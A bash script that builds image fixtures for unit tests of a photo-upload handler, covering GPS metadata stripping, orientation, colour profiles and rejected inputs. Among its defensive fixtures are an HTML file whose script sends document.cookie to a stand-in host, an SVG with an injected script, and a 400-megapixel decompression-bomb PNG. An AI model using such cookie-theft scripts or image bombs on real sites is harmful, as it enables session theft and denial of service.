#!/usr/bin/env bash
# make-fixtures.sh — regenerates the photo fixtures used by tests/unit/media/test_photo.c.
#
# The generated files are committed, so the tests need neither tool at run time; run this only
# to change or rebuild them. Needs the Debian packages libvips-tools (vips) and
# libimage-exiftool-perl (exiftool). Every file stays well under 50 KB.
#
# What each fixture is for:
#   gps.jpg        photo with GPS (EXIF and XMP), camera, owner, IPTC city, a comment, an ICC profile
#   gps.png        PNG with GPS in an eXIf chunk, XMP and a text comment
#   gps.webp       WebP with GPS in its EXIF chunk and XMP
#   progressive.jpg  an ordinary progressive JPEG (about ten scans: must pass the scan limit)
#   orient6.jpg    64x32 as stored, red left / blue right, EXIF Orientation 6 (turn 90° clockwise)
#   p3.jpg         pure red in Display P3 with its ICC profile (must come out as sRGB red)
#   alpha.png      RGBA with a transparent right half (the output is JPEG: flattened onto white)
#   deep.png       16-bit RGB (must come out 8-bit with the same colours)
#   cmyk.jpg       CMYK JPEG (must come out as 3-band sRGB)
#   truncated.jpg  gps.jpg cut off in the middle of its compressed data
#   text.jpg       a text file that merely has a photo's name
#   anim.gif       GIF: a real image, but not a type we accept
#   image.svg      SVG (scripts and external references: never to be decoded)
#   page.html      HTML pretending to be an upload
#   bomb.png       valid 20000x20000 1-bit PNG (400 megapixels) in under 50 KB
set -euo pipefail
cd "$(dirname "$0")"
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT

# A smooth colour picture (blurred noise per band) as a vips file: picture OUT WIDTH HEIGHT.
picture() {
    local out=$1 w=$2 h=$3 band bands=()
    for band in 1 2 3; do
        vips gaussnoise "$tmp/n$band.v" "$w" "$h" --mean 128 --sigma 90 --seed "$band"
        vips gaussblur "$tmp/n$band.v" "$tmp/b$band.v" 6
        bands+=("$tmp/b$band.v")
    done
    vips bandjoin "${bands[*]}" "$tmp/rgb.v"
    vips cast "$tmp/rgb.v" "$tmp/u.v" uchar
    vips copy "$tmp/u.v" "$out" --interpretation srgb
}

# The personal data a phone puts into a photo, as EXIF (with GPS) and XMP.
# On WebP, exiftool 12.57 then warns "[minor] Improper EXIF header": it writes the usual
# "Exif\0\0" prefix that its own reader flags. libvips reads the GPS fields all the same.
tag_gps() {
    exiftool -q -overwrite_original \
        -EXIF:Make=LinliTestCam -EXIF:Model="Fixture Phone" -EXIF:Artist="Zhang San" \
        -EXIF:DateTimeOriginal="2024:05:01 12:00:00" -EXIF:ImageDescription="call 13800138000" \
        -EXIF:GPSLatitude=39.9042 -EXIF:GPSLatitudeRef=N \
        -EXIF:GPSLongitude=116.4074 -EXIF:GPSLongitudeRef=E \
        -EXIF:GPSAltitude=44 -EXIF:GPSAltitudeRef=0 \
        -XMP-dc:Creator="Zhang San" -XMP-exif:GPSLatitude="39.9042 N" \
        -XMP-exif:GPSLongitude="116.4074 E" "$@"
}

picture "$tmp/pic.v" 320 240
vips jpegsave "$tmp/pic.v" gps.jpg --Q 80 --profile srgb
vips jpegsave "$tmp/pic.v" progressive.jpg --Q 80 --interlace --strip
tag_gps -IPTC:City=Beijing -File:Comment="fixture comment" gps.jpg

vips pngsave "$tmp/pic.v" "$tmp/small.png" --compression 9
vips resize "$tmp/small.png" "$tmp/small.v" 0.3
vips pngsave "$tmp/small.v" gps.png --compression 9 --strip
tag_gps -PNG:Comment="fixture comment" gps.png
vips webpsave "$tmp/small.v" gps.webp --Q 80 --strip
tag_gps gps.webp

# Red left half, blue right half, stored landscape; Orientation 6 says "turn clockwise".
vips black "$tmp/z.v" 32 32
vips linear "$tmp/z.v" "$tmp/red.v" "1 1 1" "255 0 0" --uchar
vips linear "$tmp/z.v" "$tmp/blue.v" "1 1 1" "0 0 255" --uchar
vips join "$tmp/red.v" "$tmp/blue.v" "$tmp/rb.v" horizontal
vips copy "$tmp/rb.v" "$tmp/rbs.v" --interpretation srgb
vips jpegsave "$tmp/rbs.v" orient6.jpg --Q 90
exiftool -q -overwrite_original -n -EXIF:Orientation=6 orient6.jpg

# Pure sRGB red stored as Display P3 numbers (about 234 51 34) with the P3 profile embedded,
# as iPhones do: without a colour conversion the profile's loss would dull the red.
vips icc_transform "$tmp/red.v" "p3.jpg[Q=95]" p3 --input-profile srgb

# Opaque green left half, fully transparent right half.
vips linear "$tmp/z.v" "$tmp/g4.v" "1 1 1 1" "0 255 0 255" --uchar
vips linear "$tmp/z.v" "$tmp/t4.v" "1 1 1 1" "0 0 0 0" --uchar
vips join "$tmp/g4.v" "$tmp/t4.v" "$tmp/gt.v" horizontal
vips copy "$tmp/gt.v" "$tmp/gts.v" --interpretation srgb
vips pngsave "$tmp/gts.v" alpha.png

vips colourspace "$tmp/small.v" "$tmp/deep.v" rgb16
vips pngsave "$tmp/deep.v" deep.png --compression 9

vips icc_export "$tmp/small.v" "$tmp/cmyk.v" --output-profile cmyk
vips jpegsave "$tmp/cmyk.v" cmyk.jpg --Q 80 --strip

size=$(stat -c %s gps.jpg)
head -c $((size * 6 / 10)) gps.jpg >truncated.jpg

printf 'This is not a photo, just text with a .jpg name.\n' >text.jpg
vips gifsave "$tmp/small.v" anim.gif
cat >image.svg <<'EOF'
<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
  <script>alert(1)</script>
  <image href="http://127.0.0.1/secret.png" width="100" height="100"/>
</svg>
EOF
cat >page.html <<'EOF'
<!doctype html>
<html><body><script>document.location='http://example.invalid/?c='+document.cookie</script></body></html>
EOF

# Written straight to PNG: as a vips file it would be 400 MB.
vips black "bomb.png[bitdepth=1,compression=9]" 20000 20000

ls -l
